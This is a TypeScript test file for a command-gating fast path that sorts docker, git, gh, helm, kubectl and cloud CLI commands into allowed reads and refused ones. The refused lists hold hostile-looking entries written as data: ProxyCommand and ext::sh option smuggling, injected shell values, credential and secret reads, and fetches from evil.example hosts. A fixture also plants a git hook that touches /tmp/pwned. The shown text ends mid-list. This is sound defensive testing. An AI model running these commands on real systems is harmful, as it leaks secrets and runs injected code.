// Containers, cloud CLIs, gh, git, Homebrew and fzf on the fast path, proved twice: in-process through
// analyzeCommand and through the compiled binary with no classifier credentials (so an "allow" can only
// be the fast path's). Each ALLOW row is a read the tables prove; each REFUSE row writes, runs code,
// prints a secret, reaches outside the repository or smuggles an option, and must reach the classifier.
import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { analyzeCommand } from "../../src/fastpath/analyze.ts";
import { DEFAULT_PROTECTED_BRANCHES, type PathFacts } from "../../src/fastpath/facts.ts";
import { binaryVerdicts, isolatedHome } from "../support/fastpath-binary.ts";

const work = realpathSync(mkdtempSync(join(tmpdir(), "ccgate-cloudvcs-")));
afterAll(() => rmSync(work, { recursive: true, force: true }));

function put(path: string, text = "x\n"): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}

function git(dir: string, ...args: string[]): void {
  const r = Bun.spawnSync(["git", ...args], {
    cwd: dir,
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: work, GIT_CONFIG_NOSYSTEM: "1" },
  });
  if (r.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr.toString()}`);
}

/** A git repository with a chart, a compose file and a few plain files; `git fetch` hooks removed. */
function repo(name: string): string {
  const dir = join(work, name);
  put(join(dir, "README.md"), "# r\n");
  put(join(dir, "docker-compose.yml"), "services:\n  web:\n    image: nginx\n");
  put(join(dir, "compose.override.yml"), "services: {}\n");
  put(join(dir, "vars.list"), "A=1\n");
  put(join(dir, "patch.diff"), "");
  put(join(dir, "repo.bundle"), "");
  put(join(dir, "file.txt"), "hello\n");
  put(join(dir, "values.yaml"), "a: 1\n");
  put(join(dir, "mychart", "Chart.yaml"), "apiVersion: v2\nname: mychart\nversion: 0.1.0\n");
  put(join(dir, "mychart", "templates", "cm.yaml"), "kind: ConfigMap\n");
  put(join(work, "outside.txt"), "outside\n");
  git(dir, "init", "-q", "-b", "feature/x");
  rmSync(join(dir, ".git", "hooks"), { recursive: true, force: true });
  mkdirSync(join(dir, ".git", "hooks"));
  put(join(dir, ".git", "hooks", "pre-push.sample"), "#!/bin/sh\n");
  return dir;
}

const clean = repo("clean");
git(clean, "remote", "add", "origin", "https://example.invalid/o/r.git");
git(clean, "remote", "add", "mirror", "git@github.com:o/r.git");
git(clean, "remote", "add", "lab", "ssh://git@gitlab.com/o/r.git");
// A chart with a template symlinked out of the repository (helm would render the file it points at).
const linkedChart = repo("linked-chart");
symlinkSync(join(work, "outside.txt"), join(linkedChart, "mychart", "templates", "leak.yaml"));
// A chart holding a secret-named file (.Files.Get could print it).
const secretChart = repo("secret-chart");
put(join(secretChart, "mychart", "files", ".env"), "TOKEN=1\n");
// Charts whose values.schema.json makes helm load another file, or that hold a packed subchart.
const schemaRef = repo("schema-ref");
put(join(schemaRef, "mychart", "values.schema.json"), '{"properties": {"a": {"$ref": "file:///etc/hostname"}}}');
const schemaEscaped = repo("schema-escaped");
put(
  join(schemaEscaped, "mychart", "values.schema.json"),
  '{"properties": {"a": {"\\u0024ref": "file:///etc/hostname"}}}',
);
const schemaMeta = repo("schema-meta");
put(join(schemaMeta, "mychart", "values.schema.json"), '{"$schema": "file:///etc/hostname"}');
const schemaRelative = repo("schema-relative");
put(join(schemaRelative, "mychart", "values.schema.json"), '{"properties": {"a": {"$ref": "other.json"}}}');
const schemaBroken = repo("schema-broken");
put(join(schemaBroken, "mychart", "values.schema.json"), "{not json");
const packedSub = repo("packed-sub");
put(join(packedSub, "mychart", "charts", "sub-1.0.0.tgz"), "x");
// A chart whose schema only refers inside itself.
const schemaLocal = repo("schema-local");
put(
  join(schemaLocal, "mychart", "values.schema.json"),
  '{"$schema": "https://json-schema.org/draft-07/schema#", "definitions": {"n": {"type": "integer"}}, "properties": {"a": {"$ref": "#/definitions/n"}}}',
);
// A repository whose .git/hooks has a live hook (git fetch runs reference-transaction).
const hooked = repo("hooked");
put(join(hooked, ".git", "hooks", "reference-transaction"), "#!/bin/sh\ntouch /tmp/pwned\n");
git(hooked, "remote", "add", "origin", "https://example.invalid/o/r.git");
// A repository whose config points hooks elsewhere.
const hooksPath = repo("hooks-path");
git(hooksPath, "config", "core.hooksPath", "tools/hooks");
// A compose file that is a symlink out of the repository.
const linkedCompose = repo("linked-compose");
symlinkSync(join(work, "outside.txt"), join(linkedCompose, "other.yml"));

function facts(dir: string): PathFacts {
  return {
    cwd: dir,
    boundary: dir,
    home: join(work, "home"),
    branch: "feature/x",
    protectedBranches: DEFAULT_PROTECTED_BRANCHES,
    tempDirs: ["/tmp"],
  };
}

interface Family {
  allow: string[];
  refuse: string[];
}

const FAMILIES: Record<string, Family> = {
  docker: {
    allow: [
      "docker --version",
      "docker -v",
      "docker --help",
      "docker -h",
      "docker -D ps",
      "podman --version",
      "docker compose --help",
      "docker compose version",
      "docker-compose --version",
      "docker-compose -v",
      "docker-compose --help",
      "docker --context mycontext ps",
      "docker -c mycontext images",
      "docker --context=prod ps -a",
      "docker -H tcp://localhost:2375 ps",
      "docker --host unix:///var/run/docker.sock ps",
      "docker network inspect mynet",
      "docker network inspect -v bridge",
      "docker volume inspect myvol --format '{{.Mountpoint}}'",
      "docker context inspect mycontext",
      "docker secret inspect mysecret",
      "docker secret inspect --pretty mysecret",
      "docker trust inspect --pretty nginx",
      "docker node inspect node1",
      "docker buildx du",
      "docker buildx du --verbose",
      "docker buildx imagetools inspect nginx",
      "docker buildx imagetools inspect --raw nginx",
      "podman network inspect mynet",
      "podman secret inspect mysecret",
      "docker compose ps",
      "docker compose -f docker-compose.yml ps",
      "docker compose --file docker-compose.yml logs",
      "docker compose -f docker-compose.yml -f compose.override.yml ps",
      "docker compose --file=docker-compose.yml ps",
      "docker compose -p myproject ps",
      "docker compose --project-name myproject logs",
      "docker compose --project-directory . ps",
      "docker compose --env-file vars.list ps",
      "docker compose port web 80",
      "docker compose events",
      "docker compose events --json",
      "docker compose top",
      "docker compose images",
      "docker compose version",
      "docker --context prod compose ps",
      "docker-compose ps",
      "docker-compose logs -f",
      "docker-compose -f docker-compose.yml ps",
      "docker-compose -p myproject logs",
      "docker-compose images",
      "docker-compose top",
      "docker-compose version",
      "docker-compose port web 80",
      "docker-compose events",
      "podman-compose ps",
      "podman-compose logs",
    ],
    refuse: [
      "docker -H tcp://x --version",
      "docker --context x",
      "docker -H",
      "docker inspect mycontainer",
      "docker container inspect mycontainer",
      "docker image inspect myimage",
      "docker service inspect myservice",
      "docker config inspect myconfig",
      "docker plugin inspect myplugin",
      "podman inspect mycontainer",
      "podman secret inspect --showsecret mysecret",
      "docker --config /tmp/cfg ps",
      "docker --config cfg ps",
      "docker -H ssh://-oProxyCommand=touch%20x ps",
      "docker -H 'ssh://host -oProxyCommand=x' ps",
      "docker --host=ssh://-oProxyCommand=x ps",
      "docker --host=ssh://user@build-host ps",
      "docker -H tcp://localhost:2375 exec web ls",
      "docker --context prod rm -f web",
      "docker -c prod run alpine",
      "docker exec mycontainer ls",
      "docker export mycontainer",
      "docker save myimage",
      "docker cp web:/etc/passwd .",
      "docker ps -H tcp://x y",
      "docker compose config",
      "docker compose config --services",
      "docker compose --env-file .env ps",
      "docker compose --env-file=.env ps",
      "docker compose --env-file prod.env ps",
      "docker compose --project-directory /tmp ps",
      "docker compose -f /etc/passwd ps",
      "docker compose -f ../outside.txt ps",
      "docker compose up",
      "docker compose exec web sh",
      "docker compose run web sh",
      "docker compose down",
      "docker compose -f",
      "docker compose --podman-path x ps",
      "docker-compose config",
      "docker-compose up -d",
      "docker-compose -f ~/.docker/config.json ps",
      "podman-compose config",
      "podman-compose --podman-path /tmp/x ps",
      "podman-compose --podman-args=--remote ps",
    ],
  },
  gh: {
    allow: [
      "gh pr view 123 --web",
      "gh issue view 123 -w",
      "gh repo view --web",
      "gh run view 12345 --web",
      "gh workflow view --web",
      "gh release view --web",
      "gh gist view abc123 --web",
      "gh project view 1 --web",
      "gh ruleset view 1 --web",
      "gh search repos --web cli",
      "gh label list --web",
      "gh pr list --web",
      "gh -R owner/repo pr view 1 --web",
      "gh browse",
      "gh browse 123",
      "gh browse --projects",
      "gh browse --settings",
      "gh browse --branch main",
      "gh browse file.txt",
      "gh browse --no-browser",
      "gh browse -n",
      "gh -R owner/repo browse",
      "gh cs view",
      "gh codespace view -c name",
      "gh extension search cli",
      "gh ext search --limit 50",
      "gh ruleset check branch-name",
      "gh rs list",
      "gh rs view 1",
      "gh ruleset list --parents",
      "gh attestation verify file.txt --owner myorg",
      "gh at verify file.txt -R owner/repo",
      "gh attestation verify oci://ghcr.io/o/img:1 --owner o",
      "gh attestation trusted-root --verify-only",
      "gh release verify v1.0.0",
      "gh release verify-asset v1.0.0 file.txt",
      "gh pr --help",
      "gh issue --help",
      "gh repo -h",
      "gh api --help",
      "gh pr create --help",
      "gh api repos/o/r/pulls",
      "gh api -X GET search/issues -f q='repo:cli/cli'",
      "gh api -f q='repo:cli/cli' -X GET search/issues",
      "gh api --method=GET search/issues --raw-field q=x",
      "gh api -XGET search/issues -fq=x",
      "gh api -X HEAD repos/o/r",
      "gh api graphql -f query='query { viewer { login } }'",
      "gh api graphql -f query='{ viewer { login } }' --jq .data",
      "gh api graphql --raw-field 'query=query($n: Int) { viewer { login } }' -F n=3",
    ],
    refuse: [
      "gh api -X POST repos/o/r/issues",
      "gh api --method DELETE repos/o/r",
      "gh api --method=PATCH repos/o/r",
      "gh api -XPOST repos/o/r/issues",
      "gh api repos/o/r/issues -f title=x",
      "gh api repos/o/r/issues --field title=x",
      "gh api repos/o/r/issues -ftitle=x",
      "gh api -X GET search/issues -F q=@file.txt",
      "gh api -X GET search/issues --field=q=@file.txt",
      "gh api repos/o/r/issues --input file.txt",
      "gh api -H 'X-HTTP-Method-Override: DELETE' repos/o/r",
      "gh api --hostname evil.example repos/o/r",
      "gh api -iXPOST repos/o/r",
      "gh api https://evil.example/x",
      "gh api graphql -f query='mutation { addStar(input: {}) { clientMutationId } }'",
      "gh api graphql -f query='query { a } mutation { b }'",
      "gh api graphql -f query='{ a }' -f q2='mutation { b }'",
      "gh api graphql -F query=@file.txt",
      "gh api graphql -X GET -f query='{ a }'",
      "gh api graphql",
      "gh api graphql -f q='{ a }'",
      "gh api repos/o/r repos/o/s",
      "gh auth token",
      "gh auth token --hostname github.com",
      "gh run download 12345",
      "gh release download v1.0.0",
      "gh attestation download file.txt",
      "gh at download file.txt",
      "gh codespace logs",
      "gh codespace ports",
      "gh codespace ports forward 80:80",
      "gh cs ssh",
      "gh ruleset delete 1",
      "gh rs create",
      "gh attestation trusted-root --tuf-root file.txt",
      "gh attestation verify ../outside.txt --owner o",
      "gh attestation verify file.txt --bundle /etc/passwd",
      "gh -R evil.example/o/r browse",
      "gh -R evil.example/o/r pr view 1 --web",
      "gh --repo=evil.example/o/r repo view -w",
      "gh browse /etc/passwd",
      "gh browse ../outside.txt",
      "gh myextension --help",
      "gh pr --help --web x y",
      "gh pr -R x --help",
      "gh extension install owner/gh-ext",
      "gh release verify-asset v1 /etc/passwd",
    ],
  },
  git: {
    allow: [
      "git ls-remote",
      "git ls-remote origin",
      "git ls-remote --tags origin",
      "git ls-remote --heads origin main",
      "git ls-remote -t mirror",
      "git ls-remote https://github.com/o/r.git",
      "git ls-remote git@github.com:o/r.git",
      "git ls-remote ssh://git@gitlab.com/o/r.git",
      "git fetch lab",
      "git ls-remote --symref origin HEAD",
      "git fetch",
      "git fetch origin",
      "git fetch --all",
      "git fetch --tags",
      "git fetch --prune",
      "git fetch origin main",
      "git fetch -q origin feature/x",
      "git fetch --dry-run origin",
      "git fetch mirror",
      "git apply --check patch.diff",
      "git apply --check --stat patch.diff",
      "git apply --check -p1 -R patch.diff",
      "git bundle verify repo.bundle",
      "git bundle verify -q repo.bundle",
      "git bundle list-heads repo.bundle",
      "git lfs ls-files",
      "git lfs ls-files -l",
      "git lfs status",
      "git lfs status --porcelain",
      "git hash-object file.txt",
      "git hash-object --stdin",
      "git hash-object -t blob file.txt",
      "git symbolic-ref HEAD",
      "git symbolic-ref --short HEAD",
      "git symbolic-ref -q HEAD",
      "git var GIT_AUTHOR_IDENT",
      "git var GIT_COMMITTER_IDENT",
      "git var GIT_EDITOR",
      "git replace -l",
      "git replace --list 'a*'",
      "git rerere status",
      "git rerere remaining",
      "git format-patch --stdout HEAD~3",
      "git format-patch --stdout -3",
      "git format-patch -3 --stdout --numbered",
      "git request-pull origin/main https://example.com/repo main",
      "git log --format='%H %s'",
    ],
    refuse: [
      "git fetch origin main:main",
      "git fetch origin +main",
      "git fetch origin +refs/heads/*:refs/heads/*",
      "git fetch /tmp/x",
      "git fetch file:///tmp/x",
      "git fetch ../outside.txt",
      "git fetch ./sub",
      "git fetch --upload-pack=x origin",
      "git fetch --upload-pack x origin",
      "git fetch --prune-tags",
      "git fetch -P",
      "git fetch --filter=blob:none",
      "git fetch --depth=1",
      "git fetch --all origin",
      "git fetch --recurse-submodules",
      "git fetch --force origin",
      "git fetch -o x origin",
      "git ls-remote --upload-pack=x origin",
      "git ls-remote -u x origin",
      "git ls-remote --get-url",
      "git ls-remote file:///etc",
      "git ls-remote ext::sh",
      "git ls-remote 'ext::sh -c touch% /tmp/x'",
      "git ls-remote /tmp",
      "git ls-remote git@evil.example:o/r.git",
      "git ls-remote ssh://evil.example/o/r.git",
      "git ls-remote ssh://git@github.com.evil.example/o/r.git",
      "git ls-remote git@github.com.evil.example:o/r.git",
      "git ls-remote ssh://-oProxyCommand=x/r",
      "git ls-remote -o opt origin",
      "git archive HEAD",
      "git archive --format=zip HEAD",
      "git archive -o file.tar HEAD",
      "git archive --remote=origin HEAD",
      "git apply patch.diff",
      "git apply --stat patch.diff",
      "git apply --numstat patch.diff",
      "git apply --check --apply patch.diff",
      "git apply --check --index patch.diff",
      "git apply --check --3way patch.diff",
      "git apply --check --reject patch.diff",
      "git apply --check ../outside.txt",
      "git apply --check --unsafe-paths patch.diff",
      "git apply --check --build-fake-ancestor=x patch.diff",
      "git bundle create x HEAD",
      "git bundle unbundle repo.bundle",
      "git bundle verify /tmp/x.bundle",
      "git lfs env",
      "git lfs fetch",
      "git lfs pull",
      "git lfs install",
      "git lfs track '*.bin'",
      "git hash-object -w file.txt",
      "git hash-object --stdin-paths",
      "git hash-object -wt blob file.txt",
      "git hash-object ../outside.txt",
      "git symbolic-ref HEAD refs/heads/x",
      "git symbolic-ref -d HEAD",
      "git symbolic-ref --delete HEAD",
      "git symbolic-ref -m msg HEAD refs/heads/x",
      "git var -l",
      "git var GIT_AUTHOR_IDENT GIT_EDITOR",
      "git var",
      "git var GIT_TOKEN",
      "git replace a b",
      "git replace -d a",
      "git replace -f a b",
      "git replace --edit a",
      "git rerere",
      "git rerere diff",
      "git rerere forget x",
      "git rerere clear",
      "git rerere gc",
      "git format-patch HEAD~3",
      "git format-patch origin",
      "git format-patch -o patches --stdout HEAD~1",
      "git format-patch --stdout --output-directory=x HEAD~1",
      "git format-patch --stdout -oout HEAD~1",
      "git format-patch --stdout --signature-file=/etc/passwd HEAD~1",
      "git format-patch --stdout HEAD:.env",
      "git log --format=%G?",
      "git log --pretty='%GS %h'",
      "git show -s --format=%GK HEAD",
      "git difftool",
      "git difftool HEAD~1",
      "git bisect visualize",
      "git bisect view",
      "git -c core.pager=x log",
      "git -C /tmp status",
      "git --git-dir=/tmp/.git status",
      "git request-pull origin/main file:///tmp main",
      "git request-pull origin/main /tmp main",
      "git request-pull origin/main",
    ],
  },
  fzf: {
    allow: [
      "fzf --tail=1000",
      "fzf --no-tty-default",
      "fzf --tmux",
      "fzf --tmux=center,80%",
      "fzf --border-label-pos=2",
      "fzf --multi=5",
      "fzf --multi",
      "fzf --no-multi-line",
      "fzf --gap",
      "fzf --gap=2",
      "fzf --scroll-off=5",
      "fzf --hscroll-off=10",
      "fzf --header-first",
      "fzf --header-border",
      "fzf --header-border=rounded",
      "fzf --footer-border",
      "fzf --preview-window=right:50%",
      "fzf --preview-window=up:30%:wrap",
      "fzf --preview-border=rounded",
      "fzf --preview-label=Preview",
      "fzf --walker-skip=.git,node_modules",
      "fzf --walker-root=src",
      "fzf --history-size=1000",
      "fzf --bash",
      "fzf --zsh",
      "fzf --fish",
      "fzf --bind=ctrl-a:select-all",
      "fzf --bind=ctrl-t:toggle-all",
      "fzf --bind=tab:toggle+down",
      "fzf --bind=shift-tab:toggle+up",
      "fzf --bind=ctrl-/:toggle-preview",
      "fzf --bind='ctrl-y:preview-up'",
      "fzf --bind 'ctrl-a:select-all,ctrl-d:deselect-all'",
      "fzf --bind=change:first",
      "fzf --bind='enter:print-query'",
      "fzf --bind='ctrl-p:put(text)'",
      "fzf --bind=ctrl-p:put",
      "fzf -m --bind=esc:abort --bind=enter:accept",
    ],
    refuse: [
      "fzf --preview='cat {}'",
      "fzf --preview 'cat {}'",
      "fzf --preview-window=right --preview=cat",
      "fzf --walker-root=/home",
      "fzf --walker-root /home",
      "fzf --walker-root=../",
      "fzf --history=/tmp/fzf_history",
      "fzf --history=hist",
      "fzf --listen",
      "fzf --listen=6266",
      "fzf --listen=localhost:6266",
      "fzf --with-shell=sh",
      "fzf --bind=focus:transform-header:echo\\ focused",
      "fzf --bind='ctrl-r:reload(find .)'",
      "fzf --bind='change:reload:rg --files'",
      "fzf --bind='ctrl-a:execute(rm -rf x)'",
      "fzf --bind='ctrl-a:execute-silent(touch x)'",
      "fzf --bind='ctrl-a:become(sh)'",
      "fzf --bind='ctrl-a:accept+execute(sh)'",
      "fzf --bind='ctrl-a:put(a+execute(sh))'",
      "fzf --bind='ctrl-a:put(x,ctrl-b:execute(sh))'",
      "fzf --bind='ctrl-a:put:x'",
      "fzf --bind='ctrl-a:put[x]'",
      "fzf --bind='ctrl-a:change-preview(cat x)'",
      "fzf --bind='ctrl-a:preview(cat x)'",
      "fzf --bind='ctrl-a:refresh-preview'",
      "fzf --bind='start:reload:ls'",
      "fzf --bind='ctrl-a:accept:x'",
      "fzf --bind='ctrl-a:transform(echo x)'",
      "fzf --bind='ctrl-a:print(x)'",
      "fzf --bind=ctrl-a:",
      "fzf --bind=''",
      "fzf --bind='+:accept'",
      "fzf --bind=ctrl-a:select-all x",
    ],
  },
  brew: {
    allow: [
      "brew --cache python",
      "brew --cache --formula python",
      "brew --cache --cask firefox",
      "brew --cache -s python",
      "brew --cache --HEAD python",
      "brew --cellar python",
      "brew --caskroom firefox",
      "brew --prefix",
      "brew --prefix python",
      "brew --prefix --installed python",
      "brew --prefix --unbrewed",
      "brew --repo",
      "brew --repository homebrew/core",
      "brew --taps",
      "brew --env",
      "brew --config",
      "brew --version",
      "brew log --patch python",
      "brew log --stat python",
      "brew log --oneline python",
      "brew log --max-count 5 python",
      "brew commands --include-aliases",
      "brew help",
      "brew help install",
      "brew search --pull-request python",
      "brew search --closed python",
      "brew -S python",
      "brew doctor --audit-debug",
      "brew doctor -D",
      "brew shellenv",
      "brew shellenv zsh",
      "brew analytics",
      "brew analytics state",
      "brew docs",
      "brew install --help",
      "brew install -h",
      "brew bundle --help",
      "brew services --help",
      "brew info python",
      "brew search /python/",
    ],
    refuse: [
      "brew fetch python",
      "brew fetch --deps python",
      "brew home",
      "brew home python",
      "brew homepage python",
      "brew bundle check",
      "brew bundle list",
      "brew bundle",
      "brew analytics on",
      "brew analytics off",
      "brew install python",
      "brew --prefix /etc",
      "brew --cache ../outside.txt",
      "brew --taps x",
      "brew --config x",
      "brew shellenv /bin/zsh",
      "brew shellenv 'zsh; rm x'",
      "brew myext --help",
      "brew install --help python",
      "brew install python --help",
      "brew log -o x python",
      "brew log --output=x python",
      "brew docs x",
      "brew commands --quiet x y",
      "brew --env --shell=/tmp/x",
      "brew --cache --bottle-tag=/tmp/x python",
      "brew tap user/repo",
      "brew update",
      // a regex operand is not a path (non-path-words.test.ts), but a glob the shell expands is
      "brew search /py*/",
    ],
  },
  helm: {
    allow: [
      "helm install --help",
      "helm upgrade -h",
      "helm repo add --help",
      "helm template myrelease nginx/nginx",
      "helm template myrelease ./mychart",
      "helm template myrelease mychart --set key=value",
      "helm template myrelease nginx/nginx -f values.yaml",
      "helm template myrelease nginx/nginx --values values.yaml",
      "helm template myrelease nginx/nginx --version 1.2.3",
      "helm template myrelease nginx/nginx --namespace production",
      "helm template myrelease nginx/nginx --include-crds",
      "helm template myrelease nginx/nginx --skip-crds",
      "helm template myrelease nginx/nginx --no-hooks",
      "helm template myrelease ./mychart -s templates/cm.yaml",
      "helm lint ./mychart",
      "helm lint ./mychart --strict",
      "helm lint ./mychart --with-subcharts",
      "helm lint ./mychart --set key=value",
      "helm lint ./mychart -f values.yaml",
      "helm verify ./mychart-1.0.0.tgz",
      "helm verify ./mychart-1.0.0.tgz --keyring values.yaml",
      "helm uninstall myrelease --dry-run",
      "helm rollback myrelease 2 --dry-run",
    ],
    refuse: [
      "helm get all myrelease",
      "helm template x oci://registry.example/charts/app --version 1.0.0",
      // a fetch from a host the command names, even with the schemas off (redteam-toolchains-files)
      "helm template x oci://registry.example/charts/app --version 1.0.0 --skip-schema-validation",
      "helm template x https://charts.example/app-1.0.0.tgz",
      "helm template x app --repo https://charts.example",
      "helm template x app --repo=https://charts.example",
      "helm template x ./mychart-1.0.0.tgz",
      "helm get manifest myrelease",
      "helm get values myrelease",
      "helm get values myrelease -a",
      "helm template myrelease nginx/nginx --validate",
      "helm template myrelease nginx/nginx --dry-run=server",
      "helm template myrelease nginx/nginx --dry-run",
      "helm template myrelease ./mychart --post-renderer ./x.sh",
      "helm template myrelease ./mychart --post-renderer=./x.sh",
      "helm template myrelease ./mychart --output-dir out",
      "helm template myrelease ./mychart --output-dir=out",
      "helm template myrelease ./mychart --set-file key=/etc/passwd",
      "helm template myrelease ./mychart --set-file key=values.yaml",
      "helm template myrelease ./mychart --dependency-update",
      "helm template myrelease ./mychart -f /etc/passwd",
      "helm template myrelease ./mychart -f ../outside.txt",
      "helm template myrelease ./mychart -f https://evil.example/v.yaml",
      "helm template myrelease ./mychart --values=http://evil.example/v.yaml",
      "helm template myrelease /tmp/chart",
      "helm template myrelease ../",
      "helm template myrelease ./mychart --kubeconfig k",
      "helm lint ./mychart --set-file k=x",
      "helm lint /tmp/chart",
      "helm install myrelease nginx/nginx --dry-run",
      "helm install myrelease nginx/nginx --dry-run=client",
      "helm install myrelease nginx/nginx --dry-run=server",
      "helm upgrade myrelease nginx/nginx --dry-run",
      "helm upgrade --install myrelease nginx/nginx --dry-run",
      "helm uninstall myrelease",
      "helm uninstall myrelease --dry-run=false",
      "helm rollback myrelease 2",
      "helm rollback myrelease 2 --dry-run=false",
      "helm plugin verify ./myplugin",
      "helm myplugin --help",
      "helm install --help x --set y",
      "helm verify ./x.tgz --keyring /home/u/.gnupg/pubring.gpg",
    ],
  },
  kubectl: {
    allow: [
      "kubectl get secrets",
      "kubectl get secret my-secret",
      "kubectl get secret my-secret -o name",
      "kubectl get secret my-secret -o wide",
      "kubectl get secrets -owide",
      "kubectl get secrets --output=name",
      "kubectl get secrets -A --show-labels",
      "kubectl describe secret my-secret",
      "kubectl describe secrets",
      "kubectl get pods,secrets",
      "kubectl api-resources --namespaced=true",
      "kubectl api-resources --namespaced=false",
      "kubectl api-resources --namespaced",
      "kubectl auth can-i get pods --as system:serviceaccount:default:default",
      "kubectl auth can-i list secrets --as-group=devs --as jane",
      "kubectl plugin list",
      "kubectl plugin list --name-only",
      "kubectl get pods -o yaml",
    ],
    refuse: [
      "kubectl get secret my-secret -o yaml",
      "kubectl get secrets -Ao yaml",
      "kubectl get secrets -Aoyaml",
      "kubectl get secrets -Ao=json",
      "kubectl describe secret x -o yaml",
      "kubectl get secret my-secret -o json",
      "kubectl get secret my-secret -oyaml",
      "kubectl get secret my-secret --output=json",
      "kubectl get secret my-secret -o=json",
      "kubectl get secret my-secret -o jsonpath='{.data}'",
      "kubectl get secret my-secret -o go-template='{{.data}}'",
      "kubectl get secret my-secret -o custom-columns=D:.data",
      "kubectl get secret my-secret -o name -o yaml",
      "kubectl get secret my-secret --template='{{.data}}'",
      "kubectl get secret my-secret --sort-by=.data.password",
      "kubectl get secrets/my-secret -o yaml",
      "kubectl get pods,secrets -o json",
      "kubectl get secret.v1 x -o yaml",
      "kubectl get --raw /api/v1/namespaces/default/secrets",
      "kubectl get --raw api/v1/secrets",
      "kubectl wait secret/x --for=jsonpath='{.data.a}'=b",
      "kubectl api-resources --namespaced=yes",
      "kubectl auth can-i --as=x create pods --kubeconfig k",
      "kubectl get pods --as admin",
      "kubectl cluster-info dump",
      "kubectl cluster-info dump --output-directory=/tmp/x",
      "kubectl diff -f deployment.yaml",
      "kubectl kustomize ./overlays/production",
      "kubectl exec nginx -- ls /",
      "kubectl plugin list x",
      "kubectl get pods -o $FORMAT",
    ],
  },
  aws: {
    allow: [
      "aws --endpoint-url http://localhost:4566 s3 ls",
      "aws --endpoint-url=http://127.0.0.1:4566/ dynamodb list-tables",
      "aws --endpoint-url 'https://[::1]:4566' sqs list-queues",
      "aws --cli-connect-timeout 5 --cli-read-timeout 10 ec2 describe-instances",
      "aws iam get-account-password-policy",
      "aws iam get-credential-report",
      "aws iam get-login-profile --user-name myuser",
      "aws ec2 describe-key-pairs",
      "aws ssm describe-sessions --state Active",
      "aws athena list-sessions --work-group primary",
      "aws athena get-session --session-id sess",
      "aws lambda get-function-concurrency --function-name f",
      "aws lambda get-function-url-config --function-name f",
      "aws lambda get-function-configuration --function-name f",
      "aws iam simulate-principal-policy --policy-source-arn arn --action-names s3:GetObject",
      "aws cognito-idp admin-get-user --user-pool-id p --username u",
      "aws cognito-idp admin-list-groups-for-user --user-pool-id p --username u",
      "aws rds download-db-log-file-portion --db-instance-identifier db --log-file-name error.log",
      "aws configure get region",
      "aws configure get profile.prod.region",
      "aws configure get output",
    ],
    refuse: [
      "aws --endpoint-url http://evil.example s3 ls",
      "aws --endpoint-url=http://localhost.evil.example s3 ls",
      "aws --endpoint-url http://127.0.0.1.evil.example s3 ls",
      "aws --endpoint-url http://localhost@evil.example s3 ls",
      "aws --endpoint-url http://localhost:4566/x s3 ls",
      "aws --endpoint-url s3 ls",
      "aws --endpoint-url file:///x s3 ls",
      "aws ec2 get-password-data --instance-id i-1",
      "aws sts get-session-token",
      "aws ecr get-login-password",
      "aws ecr get-authorization-token",
      "aws ssm get-parameter --name p",
      "aws ssm get-parameters --names a",
      "aws ssm get-parameter-history --name p --with-decryption",
      "aws ssm get-parameters-by-path --path p",
      "aws lambda get-function --function-name f",
      "aws lambda get-layer-version --layer-name l --version-number 1",
      "aws configure get aws_access_key_id",
      "aws configure get aws_secret_access_key",
      "aws configure get profile.prod.aws_session_token",
      "aws configure get credential_process",
      "aws configure get region extra",
      "aws configure set region us-east-1",
      "aws iam generate-credential-report",
      "aws sqs receive-message --queue-url q",
      "aws athena start-query-execution --query-string 'SELECT 1'",
      "aws cognito-idp admin-delete-user --user-pool-id p --username u",
      "aws cognito-idp admin-set-user-password --user-pool-id p --username u --password x",
      "aws ec2 describe-key-pairs out.json",
      "aws iam get-account-password-policy out.json",
      "aws cloudformation validate-template --template-body file://t.yaml",
      "aws s3api get-object --bucket b --key k outfile",
      "aws --debug ec2 describe-instances",
    ],
  },
  gcloud: {
    allow: [
      "gcloud run services list",
      "gcloud beta run services list",
      "gcloud run revisions list --service=my-service",
      "gcloud kms keys list --keyring=my-keyring --location=global",
      "gcloud kms keys describe my-key --keyring=my-keyring --location=global",
      "gcloud iam service-accounts keys list --iam-account=sa@p.iam.gserviceaccount.com",
      "gcloud iap settings get --project=my-project",
      "gcloud iap settings get --project foo --resource-type=compute",
      "gcloud compute backend-services describe k8s-be --global --project foo",
      "gcloud --project delete compute instances list",
      "gcloud --format json compute instances list",
    ],
    refuse: [
      "gcloud run services describe myservice --region us-central1",
      "gcloud beta run services describe my-service",
      "gcloud run revisions describe my-revision",
      "gcloud run jobs describe j",
      "gcloud run deploy x",
      "gcloud run services delete x",
      "gcloud run services update x --set-env-vars A=1",
      "gcloud iam service-accounts keys create k.json --iam-account=sa",
      "gcloud iam service-accounts keys describe k",
      "gcloud kms decrypt --key k --ciphertext-file c --plaintext-file -",
      "gcloud container clusters get-credentials foo",
      "gcloud iap settings set s.yaml",
      "gcloud iap oauth-clients list x",
      "gcloud iap oauth-clients describe x",
      "gcloud compute instances delete vm --zone list",
      "gcloud --project",
      "gcloud secrets versions access latest --secret s",
      "gcloud compute instances list --flags-file=f.yaml",
      "gcloud compute instances list --format @file",
    ],
  },
  az: {
    allow: [
      "az tag list",
      "az tag show -n mytag",
      "az network private-dns zone list",
      "az network private-dns zone show --name z -g g",
      "az network private-endpoint list",
      "az policy state summarize --resource-group mygroup",
      "az devops configure --list",
      "az devops configure -l",
      "az devops project list --organization https://dev.azure.com/myorg",
      "az devops project show --project p --organization https://dev.azure.com/myorg",
      "az pipelines agent list --pool-id 1 --organization https://dev.azure.com/myorg",
      "az pipelines list --org https://myorg.visualstudio.com",
      "az bicep version",
      "az vm --help",
      "az vm create --help",
      "az config get core.output",
      "az find 'how to create vm'",
      "az container logs --name c -g g",
      "az webapp log tail --name app -g g",
      "az keyvault secret list --vault-name v",
    ],
    refuse: [
      "az acr check-health --name myacr",
      "az devops configure --defaults organization=https://dev.azure.com/x",
      "az devops configure --list --defaults project=x",
      "az devops configure",
      "az devops project list --organization https://evil.example/x",
      "az devops project list --organization http://dev.azure.com/x",
      "az devops project list --organization=file:///etc/passwd",
      "az devops project list --description https://dev.azure.com/x",
      "az tag create --name t",
      "az tag add-value --name t --value v",
      "az tag list extra words",
      "az keyvault secret show --name s --vault-name v",
      "az keyvault secret download --name s --vault-name v --file f",
